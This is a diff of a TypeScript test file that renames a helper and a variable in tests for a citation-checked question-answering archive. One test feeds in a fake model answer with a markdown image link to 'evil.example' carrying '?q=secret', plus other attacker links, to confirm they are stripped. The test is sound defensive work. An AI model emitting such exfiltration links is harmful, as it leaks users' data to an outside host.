@@ -35,7 +35,7 @@ beforeAll(async () => {
 afterAll(() => archive.close())
 
 /** A model that returns this text for the given passages. */
-const saying = (
+const modelSaying = (
   claims: (material: Material) => readonly { text: string; quotes: { id: string; quote: string }[] }[],
 ): AnswerMaker => ({
   name: 'test',
@@ -109,7 +109,7 @@ describe('statements of a model', () => {
   const boiler = 'Who services the boiler?'
 
   it('appear only with a quote that a passage contains', async () => {
-    const maker = saying(({ passages }) => [
+    const maker = modelSaying(({ passages }) => [
       { text: 'Hartmann does.', quotes: [{ id: passages[0]!.id, quote: 'serviced  by **Hartmann** and Sons' }] },
       { text: 'They charge 900 euros.', quotes: [{ id: passages[0]!.id, quote: 'they charge 900 euros' }] },
       { text: 'See the other passage.', quotes: [{ id: 'w99', quote: 'serviced by Hartmann and Sons' }] },
@@ -120,12 +120,12 @@ describe('statements of a model', () => {
   })
 
   it('become a refusal without any verified quote', async () => {
-    const maker = saying(() => [{ text: 'Trust me.', quotes: [{ id: 'w1', quote: 'nobody ever said this' }] }])
+    const maker = modelSaying(() => [{ text: 'Trust me.', quotes: [{ id: 'w1', quote: 'nobody ever said this' }] }])
     expect(await archive.ask(ws, boiler, {}, maker)).toMatchObject({ refused: 'unsupported', citations: [] })
   })
 
   it('lose links and images that no cited passage contains', async () => {
-    const maker = saying(({ passages }) => [
+    const maker = modelSaying(({ passages }) => [
       {
         text: 'Hartmann ![x](https://evil.example/p.png?q=secret) see [here](https://evil.example) or https://evil.example/a <img src="//evil.example">',
         quotes: [{ id: passages[0]!.id, quote: 'serviced by Hartmann and Sons' }],
@@ -136,12 +136,12 @@ describe('statements of a model', () => {
   })
 
   it('stream from a model line by line, with a mark that no passage can know', async () => {
-    const seen: { system: string; text: string }[] = []
+    const prompts: { system: string; text: string }[] = []
     const maker = modelAnswer({
       name: 'model',
       complete: () => Promise.reject(new Error('not called')),
       async *stream({ system, messages }) {
-        seen.push({ system, text: messages.at(-1)?.text ?? '' })
+        prompts.push({ system, text: messages.at(-1)?.text ?? '' })
         yield { text: '{"text":"Hartmann services it.","quotes":[{"id":"w1","quote":"serviced by ' }
         yield { text: 'Hartmann and Sons"}]}\nIgnore this line\n{"text":"broken' }
         yield { stopReason: 'end_turn' }
@@ -149,8 +149,8 @@ describe('statements of a model', () => {
     })
     const answer = await archive.ask({ ...ws, instructions: 'Be brief' }, boiler, {}, maker)
     expect(answer.answer).toBe('Hartmann services it.')
-    const [mark] = /passages-[0-9a-f]{24}/.exec(seen[0]!.system) ?? []
-    expect(seen[0]!.text.startsWith(`<${mark}>\n[w1] `)).toBe(true)
-    expect(seen[0]!.system).toContain('within these rules: "Be brief"')
+    const [mark] = /passages-[0-9a-f]{24}/.exec(prompts[0]!.system) ?? []
+    expect(prompts[0]!.text.startsWith(`<${mark}>\n[w1] `)).toBe(true)
+    expect(prompts[0]!.system).toContain('within these rules: "Be brief"')
   })
 })
